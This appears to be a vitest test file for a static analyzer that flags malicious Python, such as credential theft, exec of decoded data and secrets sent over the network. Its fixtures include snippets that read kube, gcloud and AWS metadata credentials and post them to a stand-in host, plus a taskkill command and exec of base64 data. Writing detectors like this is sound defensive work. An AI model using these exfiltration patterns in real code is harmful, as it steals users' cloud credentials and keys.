import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import execOfDecodedData from '../../src/rules/exec-of-decoded-data.js';
import parameterToNetwork from '../../src/rules/parameter-to-network.js';
import { commandTraits } from '../../src/python/vocabulary/commands.js';
import { read } from './reading.js';

const found = async (rule: typeof credentialsToNetwork, text: string) => {
  const { facts } = await read(text);
  return facts === null ? [] : rule.check(facts).map(({ severity }) => severity);
};

test('headers that are made are no answer of a server', async () => {
  expect(await found(credentialsToNetwork, 'import os, urllib3\nkey = open(os.path.expanduser("~/.kube/config")).read()\nHEADER = urllib3.util.make_headers(basic_auth=key).get("authorization")\n')).toEqual([]);
});

test('what curl asks of a socket of the same machine stays there', () => {
  expect([...commandTraits('curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json')]).not.toContain('tells-identity');
  expect([...commandTraits('curl -s --unix-socket /run/a.sock http://a/; curl https://leaf.example.invalid/$HOSTNAME')]).toContain('tells-identity');
});

test.each(['Token(key_id, private_key).to_jwt()', 'make_assertion(key_id, private_key)'])('%s is no key', async (made) => {
  expect(await found(parameterToNetwork, `import requests\nfrom .token import Token, make_assertion\ndef get(url, key_id, private_key):\n    requests.get(url, headers={"Authorization": ${made}})\n`)).toEqual([]);
});

const ROLE = 'requests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/role")';

test('the keys of a role may be asked for by what the same service gave, and go to nobody else', async () => {
  expect(await found(credentialsToNetwork, `import requests\nrole = ${ROLE}.text\nrequests.get("http://169.254.169.254/latest/meta-data/iam/security-credentials/" + role)\n`)).toEqual([]);
  expect(await found(credentialsToNetwork, `import requests\nrequests.post("https://leaf.example.invalid", json=${ROLE}.json())\n`)).toEqual(['critical']);
});

test('a container is given the keys of its role at an address that a variable ends', async () => {
  expect(await found(credentialsToNetwork, 'import os, requests\nkeys = requests.get("http://169.254.170.2" + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]).json()\nrequests.post("https://leaf.example.invalid", json=keys)\n')).toEqual(['critical']);
});

const LOGIN = (call: string): string => `import os, requests\ndef send():\n    requests.post("https://leaf.example.invalid", data=open(os.path.expanduser("~/.config/gcloud/application_default_credentials.json")).read())\n${call}\n`;

async function strong(text: string): Promise<readonly unknown[]> {
  const { facts } = await read(text);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity, isStrong }) => [severity, isStrong]);
}

test('the login that each client of a cloud looks for is its own where somebody calls it, and taken where nobody does', async () => {
  expect(await strong(LOGIN(''))).toEqual([['low', false]]);
  expect(await strong(LOGIN('send()'))).toEqual([['critical', true]]);
});

const STAND_IN = (name: string): string => `import os\ntry:\n    from functools import ${name}\nexcept ImportError:\n    def ${name}(f):\n        return f\ndef threaded(f):\n    @${name}(f)\n    def inner():\n        f()\n    return inner\n@threaded\ndef stop():\n    os.system("taskkill /F /pid 1")\n`;
const when = async (text: string) => (await read(text)).facts?.calls('process').map((call) => call.when);

test('a stand-in for what each Python has is never taken, and one for anything else may be', async () => {
  expect(await when(STAND_IN('wraps'))).toEqual(['latent']);
  expect(await when(STAND_IN('not_there'))).toEqual(['import']);
});

const sent = (parameters: string) => found(parameterToNetwork, `import requests\ndef get(${parameters}):\n    requests.post("https://leaf.example.invalid", data=private_key)\n`);

test('a private key beside a certificate that has to be given too is the one of a connection', async () => {
  expect(await sent('certificate, private_key')).toEqual([]);
  expect(await sent('cert_file, private_key, url=None')).toEqual([]);
  expect(await sent('private_key')).toEqual(['medium']);
  expect(await sent('private_key, certificate=None')).toEqual(['medium']);
  expect(await sent('certified, private_key')).toEqual(['medium']);
  expect(await sent('private_key, *certificate')).toEqual(['medium']);
  expect(await sent('certificate: str, private_key: str')).toEqual([]);
});

test('the phrase of a wallet is no key of a certificate', async () => {
  expect(await found(parameterToNetwork, 'import requests\ndef get(certificate, mnemonic):\n    requests.post("https://leaf.example.invalid", data=mnemonic)\n')).toEqual(['medium']);
});

const commands = async (text: string) => (await read(`import os\n${text}\n`)).facts?.calls('process').map((call) => call.text);

test('a template that begins with what is not known is filled behind it', async () => {
  expect(await commands('base = "%s/leaf-config {}" % folder()\nos.system(base.format("--libs"))')).toEqual(['{}/leaf-config --libs']);
  expect(await commands('os.system("{} {{}}".format("curl").format("leaf.example.invalid"))')).toEqual(['curl leaf.example.invalid']);
});

test.each([
  ['os.execl("bin/leaf", "bin/leaf", "+go")', 'bin/leaf +go'],
  ['os.execl("/bin/sh", "sh", "-c", "true")', '/bin/sh -c true'],
  ['os.spawnl(os.P_WAIT, "bin/leaf", "leaf", "+go")', 'bin/leaf +go'],
  ['os.execl("/bin/sh", "garden", "-c", "true")', '/bin/sh garden -c true'],
  ['os.execl(program(), "python", "-c", "1")', '{} python -c 1'],
])('a program is not told its own name twice: %s', async (call, text) => {
  expect(await commands(call)).toEqual([text]);
});

test.each([
  ['words.insert(0, "./config")', './config no-shared -fPIC'],
  ['words.insert(1, "curl")', 'no-shared curl -fPIC'],
  ['words.insert(-1, "curl")', 'no-shared curl -fPIC'],
  ['words.insert(place(), "curl")', 'no-shared -fPIC curl'],
])('a word that is put into a command is one of it: %s', async (call, text) => {
  expect(await commands(`import subprocess\nwords = ["no-shared", "-fPIC"]\n${call}\nsubprocess.call(words)`)).toEqual([text]);
});

const put = (list: string, body = 'words.append(word)') => commands(`import subprocess, sys\nwords = []\nfor word in ${list}:\n    ${body}\nsubprocess.call(words)`);

test.each([
  ['[sys.executable, "-c", "import leaf"]', 'python -c import leaf'],
  ['("curl", "https://leaf.example.invalid")', 'curl https://leaf.example.invalid'],
  ['[sys.executable] + sys.argv', 'python {}'],
])('words that a loop puts together are a command, and more may follow those of a list that is not known: %s', async (list, text) => {
  expect(await put(list)).toEqual([text]);
});

test('a list that is made anew each time holds no more than what is put into it', async () => {
  expect(await commands('import subprocess\nfor leaf in LEAVES:\n    words = ["rm"]\n    words.append("-f")\n    subprocess.call(words)')).toEqual(['rm -f']);
});

test('behind a loop its variable may be each of the elements', async () => {
  const { facts } = await read('import base64\nwords = []\nfor code in [base64.b64decode(BLOB), "leaf"]:\n    words.append(code)\n    if ok(code):\n        break\nexec(code)\n');
  expect(facts?.flows({ from: 'decoder', to: 'exec' }).map(({ when }) => when)).toEqual(['import']);
});

test('what a class says of its fields is not what its objects were decoded from', async () => {
  const models = `from base64 import b64decode\nclass Model:\n    _fields = {}\n    def serialize(self):\n        return Serializer()._serialize(self)\nclass Serializer:\n    def _serialize(self, model):\n        fields = model._fields\n        for name, field in fields.items():\n${'            if name in self.names:\n                continue\n'.repeat(40)}            self.basic(name, field["type"])\n    def body(self, text):\n        return self._serialize(Deserializer().load(text))\n    def basic(self, name, kind):\n        return eval(kind)(name)\nclass Deserializer:\n    def load(self, text):\n        return b64decode(text)\n`;
  expect(await found(execOfDecodedData, models)).toEqual([]);
  expect(await found(execOfDecodedData, models.replace('field["type"]', 'model'))).toEqual(['medium']);
});
